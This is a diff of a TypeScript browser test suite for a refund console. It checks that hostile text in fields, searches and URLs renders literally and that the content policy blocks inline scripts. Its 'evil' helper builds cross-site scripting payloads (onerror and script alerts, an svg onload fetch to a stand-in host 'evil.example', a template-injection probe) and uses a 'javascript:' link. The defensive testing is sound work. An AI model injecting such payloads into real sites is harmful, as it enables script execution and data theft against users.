@@ -1,31 +1,38 @@
-/** Whatever somebody writes into a field is text to whoever reads it: nothing of it runs, asks elsewhere or changes the page. */
+/** Hostile text from clients, operators and the gateway stays text on every page: it runs no script, loads nothing and changes no markup. */
 import { sql } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { CHROMIUM, HOW_TO_GET_CHROMIUM } from '../support/chromium.js';
-import { confirm, NOT_LINKABLE, startConsole, UNCLEAR, type ConsoleHarness, type Desk } from './world.js';
+import {
+  confirm,
+  NOT_LINKABLE,
+  startConsole,
+  UNCLEAR,
+  type ConsoleHarness,
+  type ConsoleSession,
+} from './world.js';
 
-/** Each is a way in that has worked somewhere. `name` tells which field it came through. */
+/** Text with known injection patterns. `name` is the field that carries it. */
 const evil = (name: string): string =>
   `${name}"><img src=x onerror=alert(1)><script>alert(2)</script><svg/onload=fetch('//evil.example/${name}')>{{7*7}}`;
 const LINK = 'javascript:alert(3)';
 
 describe.skipIf(CHROMIUM === undefined)(`hostile text (needs Chromium: ${HOW_TO_GET_CHROMIUM})`, () => {
   let harness: ConsoleHarness;
-  let desk: Desk;
+  let session: ConsoleSession;
 
   beforeAll(async () => {
     harness = await startConsole();
-    // The name of a key is text of somebody as well.
-    desk = await harness.sitDown(await harness.newKey(evil('name'), 'operate', 'approve'));
+    // The name of an API key is user input, too.
+    session = await harness.openSession(await harness.newKey(evil('name'), 'operate', 'approve'));
   }, 120_000);
   afterAll(async () => {
-    await desk.close();
+    await session.close();
     await harness.close();
   });
 
-  /** It was shown as it was written, and nothing of it became a part of the page. */
+  /** Expects that the texts are shown literally, and that no element was created from them. */
   async function expectOnlyText(...names: readonly string[]): Promise<void> {
-    const { page, incidents } = desk;
+    const { page, incidents } = session;
     for (const name of names) await page.getByText(evil(name)).first().waitFor({ state: 'attached' });
     expect(
       await page.locator('img, script:not([src^="/console/assets/"]), [onerror], [onload]').count(),
@@ -34,8 +41,8 @@ describe.skipIf(CHROMIUM === undefined)(`hostile text (needs Chromium: ${HOW_TO_
     expect(incidents).toEqual([]);
   }
 
-  it('stays text on every page: reason, order, metadata, ticket, person, gateway', async () => {
-    const { page, open } = desk;
+  it('stays text on every page: reason, order, metadata, ticket, operator, gateway', async () => {
+    const { page, open } = session;
     const shop = await harness.newKey(evil('shop'), 'submit');
     const refund = await harness.stuck({
       code: UNCLEAR,
@@ -68,9 +75,9 @@ describe.skipIf(CHROMIUM === undefined)(`hostile text (needs Chromium: ${HOW_TO_
     await expectOnlyText('order', 'note');
   });
 
-  it('stays text in what a second person is asked to confirm', async () => {
+  it('stays text in a proposal for a second approver', async () => {
     const refund = await harness.stuck({ code: UNCLEAR, state: 'manual_review' });
-    const { open, page } = desk;
+    const { open, page } = session;
     await open(`refunds/${refund.id}`);
     await confirm(page, 'Correct', {
       'What really happened': 'succeeded',
@@ -85,8 +92,8 @@ describe.skipIf(CHROMIUM === undefined)(`hostile text (needs Chromium: ${HOW_TO_
     await expectOnlyText();
   });
 
-  it('stays text in what is searched and filtered for, and in an address that somebody sent', async () => {
-    const { page, open } = desk;
+  it('stays text in searches, filters and URLs', async () => {
+    const { page, open } = session;
     await open(`search?q=${encodeURIComponent(evil('search'))}`);
     await page.getByText('No refund or payment has exactly this id').waitFor();
     await expectOnlyText('search');
@@ -101,8 +108,8 @@ describe.skipIf(CHROMIUM === undefined)(`hostile text (needs Chromium: ${HOW_TO_
     await expectOnlyText();
   });
 
-  it('could not run if it were markup: what is inline or from elsewhere is refused, and would have been seen above', async () => {
-    const { page, incidents, open } = desk;
+  it('could not run as markup: the policy blocks inline and foreign content, and reports it', async () => {
+    const { page, incidents, open } = session;
     await open('');
     const before = incidents.length;
     await page.evaluate(`{
